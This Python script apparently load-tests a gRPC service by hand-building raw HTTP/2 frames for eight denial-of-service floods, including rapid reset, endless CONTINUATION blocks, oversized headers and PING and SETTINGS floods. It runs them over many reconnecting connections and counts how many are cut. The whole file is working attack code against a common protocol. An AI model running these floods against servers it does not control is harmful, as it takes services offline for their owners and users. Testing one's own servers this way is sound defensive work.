#!/usr/bin/env python3
"""Raw HTTP/2, to say what no library would: floods.py KIND HOST:PORT CONNECTIONS SECONDS [--tls CA CERT KEY]

Writes as fast as the peer takes it, and reads what comes so that nobody waits for us. Prints what was sent and how
many connections were cut. Kinds:
  reset         calls that are taken back at once (rapid reset)
  ping          PING frames
  settings      SETTINGS frames, each of which wants an answer
  continuation  a header block that never ends
  headers       calls with 60 KB of headers
  empty         empty DATA frames of one call
  window        WINDOW_UPDATE frames
  priority      PRIORITY frames of streams nobody opened
"""
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
BATCH = 64


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(s):
    assert len(s) < 127
    return bytes([len(s)]) + s


def field(name, value):  # a literal that is not kept
    return b"\x00" + text(name) + text(value)


CALL = (b"\x83\x86" + field(b":path", b"/coxswain.v1.TaskService/GetTask") + field(b":authority", b"x") + field(b"te", b"trailers")
        + field(b"content-type", b"application/grpc"))


class Flood:
    """One connection's endless stream of bytes."""

    def __init__(self, kind):
        self.kind = kind
        self.stream = -1
        self.n = 0

    def opened(self):
        self.stream += 2
        return self.stream

    def first(self):
        begin = PREFACE + frame(SETTINGS, 0, 0)
        if self.kind == "continuation":
            return begin + frame(HEADERS, 0, self.opened(), CALL)
        if self.kind == "empty":
            return begin + frame(HEADERS, 4, self.opened(), CALL)
        return begin

    def more(self):
        out = []
        for _ in range(BATCH):
            self.n += 1
            if self.kind == "reset":
                s = self.opened()
                out.append(frame(HEADERS, 4, s, CALL) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)))
            elif self.kind == "ping":
                out.append(frame(PING, 0, 0, struct.pack(">Q", self.n)))
            elif self.kind == "settings":
                out.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
            elif self.kind == "continuation":
                out.append(frame(CONTINUATION, 0, self.stream, field(b"a", b"b" * 100)))
            elif self.kind == "headers":
                out.append(frame(HEADERS, 4, self.opened(), CALL + b"".join(field(b"x-%d" % i, b"v" * 120) for i in range(110))))
            elif self.kind == "empty":
                out.append(frame(DATA, 0, self.stream))
            elif self.kind == "window":
                out.append(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
            elif self.kind == "priority":
                out.append(frame(PRIORITY, 0, self.opened(), struct.pack(">IB", 0, 7)))
            else:
                sys.exit(f"no such kind: {self.kind}")
        return b"".join(out)


def connect(host, port, tls):
    s = socket.create_connection((host, port), timeout=10)
    if tls:
        context = ssl.create_default_context(cafile=tls[0])
        context.load_cert_chain(tls[1], tls[2])
        context.set_alpn_protocols(["h2"])
        s = context.wrap_socket(s, server_hostname="localhost")
    s.setblocking(False)
    return s


def main():
    kind, address, n, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    tls = sys.argv[6:9] if len(sys.argv) > 5 else None
    host, port = address.rsplit(":", 1)
    selector = selectors.DefaultSelector()
    sent = frames = cut = 0

    def begin():
        s = connect(host, int(port), tls)
        flood = Flood(kind)
        selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, [flood, flood.first()])

    for _ in range(n):
        begin()
    print("ready", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for key, events in selector.select(0.1):
            s, state = key.fileobj, key.data
            try:
                if events & selectors.EVENT_READ and not s.recv(65536):
                    raise ConnectionResetError
                if events & selectors.EVENT_WRITE:
                    if not state[1]:
                        state[1] = state[0].more()
                        frames += BATCH
                    done = s.send(state[1])
                    state[1] = state[1][done:]
                    sent += done
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                cut += 1
                selector.unregister(s)
                s.close()
                try:
                    begin()
                except OSError:
                    pass
    print(f"{kind}: {frames} frames, {sent >> 10} KiB sent in {seconds:.0f} s by {n} connections, {cut} cut", flush=True)


main()
